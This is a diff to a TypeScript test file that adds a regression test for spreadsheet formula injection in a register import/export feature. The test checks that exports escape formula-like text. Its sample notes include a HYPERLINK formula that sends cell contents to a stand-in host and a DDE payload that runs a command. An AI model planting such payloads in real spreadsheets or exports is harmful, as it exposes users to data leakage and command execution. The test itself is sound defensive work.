@@ -1,5 +1,6 @@
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { parseCsv } from '../../server/src/features/registers/register-sheets.js';
 import type { GraphQLCaller } from '../helpers/test-app.js';
 import { startTestApp, type TestApp } from '../helpers/test-app.js';
 
@@ -222,5 +223,49 @@ describe('register import and export', () => {
     expect(await count('administrative_procedure', 2026)).toBe(1);
     expect((await get(office, '/api/registers/nothing/2021.csv')).status).toBe(404);
     expect((await get(office, '/api/registers/index-results/1900.csv')).status).toBe(400);
+  });
+});
+
+describe('formula injection (issue 13)', () => {
+  const HOSTILE_NOTES = ['=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0"];
+
+  it('exports formula-like text behind an apostrophe in CSV and xlsx, keeps the stored text, and imports back unchanged', async () => {
+    const file = await xlsx(
+      ['Chỉ số', 'Tổng điểm', 'Xếp hạng', 'Ghi chú', 'Điểm thành phần'],
+      [
+        ['SIPAS', 80, 1, HOSTILE_NOTES[0], ''],
+        ['PAR INDEX', 81, 2, HOSTILE_NOTES[1], ''],
+      ],
+    );
+    expect((await post(office, '/api/registers/index-results/2036/import', file)).status).toBe(200);
+    const stored = await t.sql<{ note: string }>(
+      'select note from index_result where year = 2036 order by total_score',
+    );
+    expect(stored.map((r) => r.note)).toEqual(HOSTILE_NOTES);
+
+    const csv = (await get(office, '/api/registers/index-results/2036.csv')).bytes;
+    const fields = parseCsv(csv.toString('utf8')).flat();
+    expect(fields.filter((f) => /^[=+\-@\t\r]/.test(f))).toEqual([]);
+    expect(fields).toEqual(expect.arrayContaining(HOSTILE_NOTES.map((note) => `'${note}`)));
+
+    const exported = (await get(office, '/api/registers/index-results/2036.xlsx')).bytes;
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(exported as unknown as ArrayBuffer);
+    const notes: unknown[] = [];
+    workbook.worksheets[0]?.eachRow((row, n) => {
+      if (n > 1) notes.push(row.getCell(4).value);
+    });
+    expect([...notes].sort()).toEqual(HOSTILE_NOTES.map((note) => `'${note}`).sort());
+
+    for (const [format, bytes] of [
+      ['csv', csv],
+      ['xlsx', exported],
+    ] as const) {
+      const preview = await post(office, '/api/registers/index-results/2036/import-preview', bytes);
+      expect(
+        preview.body.rows.map((r) => r.change),
+        format,
+      ).toEqual(['UNCHANGED', 'UNCHANGED']);
+    }
   });
 });
